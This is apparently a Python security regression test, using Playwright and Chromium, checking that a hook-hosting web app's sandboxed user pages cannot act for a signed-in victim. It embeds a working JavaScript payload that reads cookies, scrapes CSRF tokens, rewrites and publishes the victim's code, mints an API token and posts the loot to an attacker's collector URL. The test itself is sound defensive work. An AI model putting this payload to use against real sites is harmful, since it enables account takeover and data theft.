"""Issue 13, finding 1, for real in Chromium: a hook's page cannot act as the product.

The attacker (bob) publishes a hook whose `responder` and `query` return an HTML page with a
script. A signed-in victim (alice, with a hook of her own) opens the attacker's read URL and
write URL. The script tries everything finding 1 did: read `document.cookie`, `/api/hooks/`,
`/api/me/` and a UI page, save and publish new code on alice's hook with the CSRF token, mint an
API token, and send whatever it got to the attacker's own write URL. The test fails if any of
it worked: alice's hook keeps its code and versions, she has no new token, and the attacker's
collector logged nothing.

It runs twice: with two origins (the app on http://localhost:PORT, the public endpoints on
http://127.0.0.1:PORT, as `make run` does) and with one origin, where CSP `sandbox` alone holds.
A control first serves the same page as if from the app's origin (a Playwright route, no server
code involved) and shows that the script does take the account when nothing stops it.
"""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest
from django.test import Client

from accounts.models import ApiToken, User
from hooks.models import Hook, Request, Version
from hooks.services import hook_create
from tests.conftest import read_key, write_key
from tests.servers import asgi_server, free_port, wait_for

pytestmark = pytest.mark.django_db(transaction=True)

# What the victim's hook runs; the attack would replace it.
VICTIM_CODE = "def reducer(state, request, secrets):\n    return (state or 0) + 1\n"
STOLEN_CODE = "def reducer(state, request, secrets):\n    return 'owned'\n"

SCRIPT = """
(async () => {
  const out = {ran: location.href};
  try { out.cookie = document.cookie; } catch (e) { out.cookie = "refused: " + e; }
  async function get(url) {
    try {
      const r = await fetch(url, {credentials: "include"});
      return r.status + " " + (await r.text()).slice(0, 4000);
    } catch (e) { return "refused: " + e; }
  }
  for (const base of [APP, ""]) {
    out[base + "/api/hooks/"] = await get(base + "/api/hooks/");
    out[base + "/api/me/"] = await get(base + "/api/me/");
    out[base + "/hooks/"] = await get(base + "/hooks/" + HOOK + "/");
  }
  let token = ((out.cookie || "").match(/csrftoken=([^;]+)/) || [])[1] || "";
  const page = out[APP + "/hooks/"] || "";
  token = token || (page.match(/name="csrfmiddlewaretoken" value="([^"]+)"/) || [])[1] || "";
  out.token = token;
  async function send(method, url, body) {
    try {
      const r = await fetch(APP + url, {
        method, credentials: "include", body: JSON.stringify(body),
        headers: {"Content-Type": "application/json", "X-CSRFToken": token},
      });
      return r.status + " " + (await r.text()).slice(0, 2000);
    } catch (e) { return "refused: " + e; }
  }
  out.draft = await send("PUT", "/api/hooks/" + HOOK + "/draft/", {code: STOLEN});
  out.publish = await send("POST", "/api/hooks/" + HOOK + "/publish/", {});
  out.api_token = await send("POST", "/api/tokens/", {name: "pwned"});
  await fetch(COLLECT, {method: "POST", mode: "no-cors", keepalive: true, body: JSON.stringify(out)});
})();
"""

ATTACKER_CODE = """
from webreducer import Response

PAGE = {page!r}

def responder(request, secrets):
    return Response(PAGE, headers={{"Content-Type": "text/html"}})

def query(state, params, secrets):
    return Response(PAGE, headers={{"Content-Type": "text/html; charset=utf-8"}})
"""


@dataclass
class Site:
    app: str  # SITE_ROOT
    public: str  # where the write and read URLs are


@pytest.fixture(scope="module", params=["two-origins", "one-origin"])
def site(
    request: Any, django_db_setup: Any, django_db_blocker: Any, tmp_path_factory: Any
) -> Iterator[Site]:
    port = free_port()
    public = f"http://127.0.0.1:{port}"
    env = {"SITE_ROOT": public}
    if request.param == "two-origins":
        env = {"SITE_ROOT": f"http://localhost:{port}", "WR_PUBLIC_ORIGIN": public}
    logs = tmp_path_factory.mktemp("user-content")
    with django_db_blocker.unblock(), asgi_server(logs, port=port, **env):
        yield Site(app=env["SITE_ROOT"], public=public)


@dataclass
class Attack:
    read_url: str
    write_url: str
    page: str
    collector: Hook


def attack_for(site: Site, victim_hook: Hook) -> Attack:
    bob = User.objects.get_or_create(username="bob", defaults={"email": "bob@example.com"})[0]
    collector = hook_create(owner=bob, name="collector", code="")
    script = (
        SCRIPT.replace("APP", json.dumps(site.app))
        .replace("HOOK", json.dumps(str(victim_hook.pk)))
        .replace("STOLEN", json.dumps(STOLEN_CODE))
        .replace("COLLECT", json.dumps(f"{site.public}/write/{write_key(collector)}"))
    )
    page = f"<!doctype html><title>cute cats</title><h1>Cats</h1><script>{script}</script>"
    trap = hook_create(owner=bob, name="trap", code=ATTACKER_CODE.format(page=page))
    return Attack(
        read_url=f"{site.public}/read/{read_key(trap)}",
        write_url=f"{site.public}/write/{write_key(trap)}",
        page=page,
        collector=collector,
    )


def signed_in(browser: Any, site: Site, user: User) -> tuple[Any, Any, list[str]]:
    """A browser context where `user` is signed in and has opened the app (so holds its CSRF
    cookie too), and what its pages log."""
    client = Client()
    client.force_login(user)
    context = browser.new_context()
    context.set_default_timeout(20_000)
    session = client.cookies["sessionid"]
    # As the app sets it (settings.py): host-only, HttpOnly, SameSite=Lax.
    context.add_cookies(
        [
            {
                "name": "sessionid",
                "value": session.value,
                "url": site.app,
                "httpOnly": True,
                "sameSite": "Lax",
            }
        ]
    )
    page = context.new_page()
    logged: list[str] = []
    page.on("console", lambda message: logged.append(message.text))
    page.goto(f"{site.app}/hooks/")
    assert page.title() != "" and "/accounts/login" not in page.url
    assert any(c["name"] == "csrftoken" for c in context.cookies())
    return context, page, logged


def loot(collector: Hook) -> list[dict[str, Any]]:
    return [json.loads(bytes(r.body)) for r in Request.objects.filter(hook=collector)]


def victim(name: str) -> tuple[User, Hook]:
    user = User.objects.create_user(username=name, email=f"{name}@example.com")
    return user, hook_create(owner=user, name=f"{name}'s hook", code=VICTIM_CODE)


def test_the_attack_takes_the_account_when_nothing_stops_it(browser: Any, site: Site) -> None:
    carol, hook = victim("carol")
    attack = attack_for(site, hook)
    context, page, logged = signed_in(browser, site, carol)
    # A routed page has no address of its own, so Chromium counts it as public and asks before
    # it reaches loopback (Local Network Access); a page served from the network would not ask.
    context.grant_permissions(["local-network-access"], origin=site.app)
    # The hole finding 1 was: the page served as the app's own, with no CSP.
    page.route(
        f"{site.app}/hole",
        lambda route: route.fulfill(status=200, content_type="text/html", body=attack.page),
    )
    try:
        page.goto(f"{site.app}/hole")
        wait_for(lambda: bool(loot(attack.collector)), 30, f"the control to report {logged}")
    finally:
        context.close()

    (got,) = loot(attack.collector)
    assert write_key(hook) in got[f"{site.app}/api/hooks/"]
    assert got["draft"].startswith("200")
    assert got["api_token"].startswith("201")
    assert ApiToken.objects.filter(user=carol).count() == 1


@pytest.mark.parametrize("via", ["read", "write"])
def test_a_hooks_page_cannot_act_for_the_signed_in_victim(
    browser: Any, site: Site, via: str
) -> None:
    alice, hook = victim("alice")
    attack = attack_for(site, hook)
    versions = list(Version.objects.filter(hook=hook).values_list("id", flat=True))
    context, page, logged = signed_in(browser, site, alice)
    try:
        answer = page.goto(attack.read_url if via == "read" else attack.write_url)
        assert answer is not None and answer.status == 200
        assert page.locator("h1").inner_text() == "Cats"  # the page itself is shown
        page.wait_for_load_state("networkidle")
        time.sleep(1)  # room for a script that ran to report (it never should)
        blocked = [m for m in logged if "Blocked script execution" in m]
    finally:
        context.close()

    assert loot(attack.collector) == []
    hook.refresh_from_db()
    assert hook.draft_code == VICTIM_CODE
    assert list(Version.objects.filter(hook=hook).values_list("id", flat=True)) == versions
    assert not ApiToken.objects.filter(user=alice).exists()
    # Chromium says why: the document is sandboxed without allow-scripts.
    assert answer.headers.get("content-security-policy") == "sandbox"
    assert answer.headers.get("x-content-type-options") == "nosniff"
    assert blocked, logged
